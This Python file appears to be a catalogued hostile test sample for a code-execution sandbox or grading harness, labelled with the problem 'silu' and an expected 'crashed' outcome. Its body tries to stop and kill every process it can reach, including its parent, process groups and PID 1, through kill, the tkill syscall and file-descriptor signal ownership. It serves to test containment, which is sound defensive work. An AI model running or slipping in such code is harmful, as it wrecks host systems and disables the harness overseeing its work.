# number: 49 24 21
# source: threat catalogue G
# tries: kills and stops everything it can name: all processes, groups, threads, parents, and by descriptor owner
# problem: silu
# expect: crashed
# naive: exempt: it is after other processes, not after a verdict
import ctypes
import fcntl
import os
import signal

libc = ctypes.CDLL(None)
own = set(map(int, os.listdir("/proc/self/task")))
hit = []
signal.signal(signal.SIGTERM, signal.SIG_IGN)
for number in (signal.SIGSTOP, signal.SIGKILL):
    for pid in [*range(2, 40000), os.getppid(), -2]:
        if pid not in own and pid != os.getpid() and pid != 0:
            try:
                os.kill(pid, number)
                hit.append(pid)
            except OSError:
                pass
            if libc.syscall(200, pid, number) == 0:
                hit.append(pid)
for pid in (1, -1, 2, 100, 1000):
    try:
        fcntl.fcntl(3, fcntl.F_SETOWN, pid)
        fcntl.fcntl(3, 10, signal.SIGKILL)
        fcntl.fcntl(3, fcntl.F_SETFL, os.O_ASYNC)
        hit.append(("owner", pid))
    except OSError:
        pass
raise RuntimeError(f"hit {hit[:20]}")


def run(x):
    return x
